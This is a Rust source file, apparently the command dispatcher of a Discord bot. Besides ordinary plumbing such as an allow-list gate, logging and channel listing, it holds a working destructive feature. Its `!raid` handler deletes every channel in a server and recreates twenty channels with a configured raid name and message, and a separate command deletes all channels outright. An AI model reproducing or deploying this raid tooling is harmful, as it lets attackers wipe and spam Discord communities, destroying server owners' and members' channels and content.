use poise::serenity_prelude::GuildId;
use tracing::{debug, error, info, warn};

use super::Command;
use crate::config::BotConfig;
use crate::error::{BotError, Result};
use crate::managers::{ChannelMutator, MessagePruner};
use crate::messages;
use crate::models::{Identity, InboundMessage};
use crate::permissions::{is_command, PermissionGate};
use crate::transport::{notify, SharedTransport};

/// Number of channels `!raid` recreates after the wipe
pub const RAID_CHANNEL_COUNT: usize = 20;

/// What happened to an inbound message
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DispatchOutcome {
    /// Sent by the bot itself
    SelfAuthored,
    /// No command prefix; never reaches the gate
    NotACommand,
    /// Author is not on the allow-list
    Rejected,
    /// Prefixed, authorized, but not in the command table
    Unknown,
    Handled(Command),
}

/// Routes inbound messages through the permission gate to one handler
///
/// Holds no mutable state; concurrent calls for different messages are fine.
pub struct Dispatcher {
    bot_id: Identity,
    gate: PermissionGate,
    transport: SharedTransport,
    pruner: MessagePruner,
    mutator: ChannelMutator,
    raid_message: String,
    raid_channel_name: String,
}

impl Dispatcher {
    pub fn new(bot_id: impl Into<Identity>, config: &BotConfig, transport: SharedTransport) -> Self {
        let gate = PermissionGate::from_config(config);
        if gate.is_empty() {
            warn!("Permission gate is empty; every command will be rejected");
        } else {
            info!("Permission gate loaded with {} identities", gate.len());
        }

        Self {
            bot_id: bot_id.into(),
            gate,
            pruner: MessagePruner::new(transport.clone()),
            mutator: ChannelMutator::new(transport.clone(), config.channel_delete_concurrency),
            transport,
            raid_message: config.raid_message.clone(),
            raid_channel_name: config.raid_channel_name.clone(),
        }
    }

    pub async fn dispatch(&self, msg: &InboundMessage) -> DispatchOutcome {
        if msg.author == self.bot_id {
            return DispatchOutcome::SelfAuthored;
        }

        if !is_command(&msg.content) {
            return DispatchOutcome::NotACommand;
        }

        if !self.gate.is_authorized(&msg.author) {
            warn!(
                "Rejected command {:?} from unauthorized user {} in channel {}",
                msg.content, msg.author, msg.channel_id
            );
            self.reject(msg).await;
            return DispatchOutcome::Rejected;
        }

        let Some(command) = Command::parse(&msg.content) else {
            debug!("Ignoring unknown command {:?} from {}", msg.content, msg.author);
            return DispatchOutcome::Unknown;
        };

        info!(
            "Command '{}' invoked by {} in {} (channel {})",
            command.trigger(),
            msg.author,
            msg.guild_id
                .map(|g| g.to_string())
                .unwrap_or_else(|| "DM".to_string()),
            msg.channel_id
        );

        match self.run(command, msg).await {
            Ok(()) => info!("Command '{}' completed for {}", command.trigger(), msg.author),
            Err(e) => error!("Error in command '{}': {}", command.trigger(), e),
        }

        DispatchOutcome::Handled(command)
    }

    async fn run(&self, command: Command, msg: &InboundMessage) -> Result<()> {
        let guild_id = if command.guild_only() {
            Some(self.require_guild(command, msg).await?)
        } else {
            msg.guild_id
        };

        match (command, guild_id) {
            (Command::Ping, _) => self.ping(msg).await,
            (Command::Clean, _) => self.pruner.prune(msg.channel_id).await.map(|_| ()),
            (Command::Channels, Some(guild_id)) => self.list_channels(msg, guild_id).await,
            (Command::Raid, Some(guild_id)) => self.raid(msg, guild_id).await,
            (Command::CleanChannels, Some(guild_id)) => self
                .mutator
                .delete_all(guild_id, msg.channel_id)
                .await
                .map(|_| ()),
            (command, None) => Err(BotError::GuildOnly {
                command: command.trigger().to_string(),
            }),
        }
    }

    /// Remove the offending message and tell the channel why
    async fn reject(&self, msg: &InboundMessage) {
        if let Err(e) = self
            .transport
            .delete_message(msg.channel_id, msg.message_id)
            .await
        {
            error!("Failed to delete rejected message {}: {}", msg.message_id, e);
        }
        notify(self.transport.as_ref(), msg.channel_id, messages::NO_PERMISSION).await;
    }

    async fn require_guild(&self, command: Command, msg: &InboundMessage) -> Result<GuildId> {
        match msg.guild_id {
            Some(guild_id) => Ok(guild_id),
            None => {
                notify(self.transport.as_ref(), msg.channel_id, messages::GUILD_ONLY).await;
                Err(BotError::GuildOnly {
                    command: command.trigger().to_string(),
                })
            }
        }
    }

    async fn ping(&self, msg: &InboundMessage) -> Result<()> {
        notify(self.transport.as_ref(), msg.channel_id, messages::PONG).await;
        self.transport
            .delete_message(msg.channel_id, msg.message_id)
            .await
    }

    async fn list_channels(&self, msg: &InboundMessage, guild_id: GuildId) -> Result<()> {
        let mut channels = match self.transport.guild_channels(guild_id).await {
            Ok(channels) => channels,
            Err(e) => {
                notify(
                    self.transport.as_ref(),
                    msg.channel_id,
                    messages::CHANNELS_FETCH_FAILED,
                )
                .await;
                return Err(e);
            }
        };
        channels.sort_by_key(|c| (c.position, c.id));

        self.transport
            .send_message(msg.channel_id, &messages::channel_list(&channels))
            .await?;
        Ok(())
    }

    /// Wipe every channel, then recreate a fixed number one at a time
    async fn raid(&self, msg: &InboundMessage, guild_id: GuildId) -> Result<()> {
        // A failed wipe is already reported; creation still runs
        if let Err(e) = self.mutator.delete_all(guild_id, msg.channel_id).await {
            warn!("Channel wipe for guild {} failed: {}", guild_id, e);
        }

        let created = self
            .mutator
            .create_many(
                guild_id,
                &self.raid_channel_name,
                Some(&self.raid_message),
                RAID_CHANNEL_COUNT,
            )
            .await;

        if created.succeeded == 0 {
            return Err(BotError::Discord {
                message: format!("no channels could be created in guild {}", guild_id),
            });
        }
        Ok(())
    }
}
